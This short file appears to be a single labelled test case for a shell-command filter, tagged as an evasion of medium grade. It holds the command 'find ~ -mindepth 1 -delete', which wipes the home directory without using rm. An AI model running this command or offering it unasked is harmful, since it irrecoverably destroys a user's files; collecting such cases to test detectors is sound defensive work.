# evasion: find -delete of the home directory
# grade: medium; does: delete
find ~ -mindepth 1 -delete
